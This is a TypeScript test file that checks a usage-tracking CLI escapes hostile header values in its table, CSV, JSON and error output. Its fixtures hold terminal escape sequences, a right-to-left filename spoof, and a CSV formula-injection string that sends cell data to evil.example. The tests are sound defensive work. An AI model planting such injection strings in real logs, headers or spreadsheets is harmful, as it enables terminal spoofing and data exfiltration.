import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { sumReferrers, sumUserAgents } from '../../src/index.ts';
import { lines, run, temporaryDirectory, track } from './support.ts';

/** Clears the screen, is red, ends the line, and pretends to be a row. */
const AGENT = '\x1b[2J\x9b31mred\x7f\t9,999';
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"win")';
const USERNAME = '@\u202egnp\u200b.exe\x07\r\n\x85';

let directory: Awaited<ReturnType<typeof temporaryDirectory>>;
let path: string;

beforeAll(async () => {
  directory = await temporaryDirectory();
  path = join(directory.path, 'usage.db');
  await using app = await track(directory.path, {}, [sumUserAgents, sumReferrers]);
  await app.visit({
    at: '2026-11-02T10:00:00Z',
    path: '/',
    headers: {
      Host: 'shop.example\x1b]0;title',
      'User-Agent': AGENT,
      Referer: FORMULA,
      Authorization: `Basic ${Buffer.from(`${USERNAME}:secret`).toString('base64')}`,
    },
  });
});
afterAll(() => directory[Symbol.asyncDispose]());

const runCli = (...argv: string[]) => run([...argv, '--storage', path], { columns: 80 });
/** Characters that must not be printed unescaped, except line breaks. */
const RAW = /(?!\r?\n)[\p{Cc}\p{Cf}]/u;

test('a table escapes hostile texts', async () => {
  expect((await runCli('sum', 'user-agents')).out).toBe(lines`
                                        Avg. response
    Date        Hits  Transfer  Errors           time  Key
    2026-11-02     1       0 B       0         1.5 ms  \x1b[2J\x9b31mred\x7f\t9,999
  `);
  const usage = await runCli('usage');
  expect(usage.out).not.toMatch(RAW);
  expect(usage.out.split('\n')).toHaveLength(3);
});

test('CSV escapes hostile texts', async () => {
  const { out } = await runCli('sum', 'user-agents', '--format', 'csv');
  expect(out.split('\r\n')[1]).toBe(
    String.raw`day,2026-11-02T00:00:00+00:00,\x1b[2J\x9b31mred\x7f\t9,999,1,0,0,1500`.replace(
      /\\x1b.*9,999/,
      '"$&"',
    ),
  );
  expect((await runCli('sum', 'referrers', '--format', 'csv')).out.split('\r\n')[1]).toBe(
    `day,2026-11-02T00:00:00+00:00,"'=HYPERLINK(""https://evil.example/?""&A1,""win"")",1,0,0,1500`,
  );
  const usage = (await runCli('usage', '--format', 'csv')).out;
  expect(usage).not.toMatch(RAW);
  expect(usage).toContain(String.raw`,'@\u202egnp\u200b.exe\x07\r\n\x85,`);
});

test('JSON escapes hostile texts, and parses to the same text', async () => {
  const sums = (await runCli('sum', 'user-agents', '--format', 'json')).out;
  expect(sums).toContain(String.raw`"key":"\u001b[2J\u009b31mred\u007f\t9,999"`);
  expect(JSON.parse(sums)).toMatchObject([{ key: AGENT }]);
  const usage = (await runCli('usage', '--format', 'json')).out;
  expect(usage).not.toMatch(RAW);
  expect(JSON.parse(usage)).toMatchObject([
    { username: USERNAME, referrer: FORMULA, userAgent: { string: AGENT } },
  ]);
});

test('messages escape hostile texts', async () => {
  const { code, out, err } = await runCli('sum', 'urls\x1b[2J\u202e');
  expect({ code, out }).toEqual({ code: 2, out: '' });
  expect(err).not.toMatch(RAW);
  expect((await run(['usage', '--storage', 'no\x9b\nfile.db'])).err).toContain(String.raw`no\x9b\nfile.db;`);
  expect((await run(['usage', '--storage', 'a.db', '--\x1b[31m\nx'])).err).toContain(
    String.raw`'--\x1b[31m\nx'`,
  );
});
